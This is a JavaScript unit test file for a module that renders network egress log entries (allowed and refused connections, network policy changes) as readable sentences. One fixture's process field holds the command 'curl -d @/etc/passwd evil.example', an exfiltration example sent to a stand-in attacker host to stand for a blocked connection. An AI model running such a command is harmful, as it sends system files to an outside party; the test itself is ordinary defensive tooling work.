// Connections in the record, as sentences.

import assert from "node:assert/strict";
import { test } from "node:test";

import { openDocument } from "../browser/dom.mjs";

openDocument();
location.search = "?lang=en";
const { connectionSentence, isRefused, likeness } = await import("/static/recorder/connections.js");

const ALLOWED = /** @type {any} */ ({
  n: 1, at: 1, kind: "egress", event: "connections", actor: { type: "system", name: "egress" }, action: "allow", host: "pypi.org", port: 443, rule: "packages", count: 1,
  process: "/usr/bin/pip download six", session: "shell:main",
});
const REFUSED = { ...ALLOWED, action: "deny", host: "evil.example", rule: "default", process: "curl -d @/etc/passwd evil.example" };
/** @param {...any} entries */
const says = (...entries) => connectionSentence(entries).map(({ text }) => text).join("");

test("a connection says which program reached what, and a refusal by which rule", () => {
  assert.equal(says(ALLOWED), "pip connected to pypi.org:443");
  assert.equal(says({ ...REFUSED, count: 14 }), "curl was refused evil.example:443 by the rule default (14 times)");
  assert.equal(says({ ...REFUSED, process: null, host: "2001:db8::1" }), "A program was refused [2001:db8::1]:443 by the rule default");
});

test("what nobody answered was not refused", () => {
  const unanswered = { ...REFUSED, rule: "unreachable" };
  assert.deepEqual([says(unanswered), isRefused(unanswered)], ["curl got no answer from evil.example:443", false]);
});

test("several are one sentence that has an end", () => {
  const many = Array.from({ length: 30 }, (_, at) => ({ ...ALLOWED, host: `h${at}.example` }));
  assert.equal(says(...many), "pip connected to h0.example:443, h1.example:443, h2.example:443 and 27 more (30 times)");
});

test("changes of the policy say who made them, and what they cut", () => {
  const policy = (/** @type {object} */ more) => says({ kind: "egress", event: "policy", by: "ann#1234", ...more });
  assert.equal(policy({ change: "put", cut: 2 }), "ann · 1234 replaced the network policy; 2 connections were cut");
  assert.equal(policy({ change: "patch", cut: 1 }), "ann · 1234 changed the network policy; 1 connection was cut");
  assert.equal(policy({ change: "always", host: "pypi.org", port: 443 }), "ann · 1234 added a rule for pypi.org:443");
  assert.equal(policy({ change: "grant", host: "pypi.org", port: 443, action: "allow" }), "ann · 1234 decided about pypi.org:443 for a while");
  assert.equal(policy({ change: "revoke", host: "pypi.org", port: null }), "ann · 1234 ended the temporary rule for pypi.org");
  assert.equal(policy({ change: "constructor", by: "" }), "Somebody changed the network policy");
});

test("a network that closes and opens is told", () => {
  assert.deepEqual(["away", "back"].map((event) => says({ kind: "egress", event })), ["The network was closed: the egress process was away", "The network is open again"]);
});

test("what a record holds cannot break a sentence", () => {
  assert.equal(says({ kind: "egress", event: "connections", host: { a: 1 }, port: "x", process: ["a"] }), "A program connected to ");
});

test("a program's connections are alike where they were allowed, a refusal only to itself", () => {
  assert.equal(likeness(ALLOWED), likeness({ ...ALLOWED, host: "files.example" }));
  assert.notEqual(likeness(ALLOWED), likeness({ ...ALLOWED, session: "desktop" }));
  assert.notEqual(likeness(REFUSED), likeness({ ...REFUSED, host: "other.example" }));
  assert.deepEqual([likeness({ ...ALLOWED, event: "policy" }), likeness({ ...ALLOWED, kind: "command" })], ["", ""]);
  assert.deepEqual([isRefused(REFUSED), isRefused(ALLOWED)], [true, false]);
});

test("the rows and sentences of the page know of them once this is loaded", async () => {
  const { connections } = await import("/static/recorder/rows.js");
  assert.deepEqual([connections.isRefused(REFUSED), connections.sentence([ALLOWED]).length > 0], [true, true]);
});
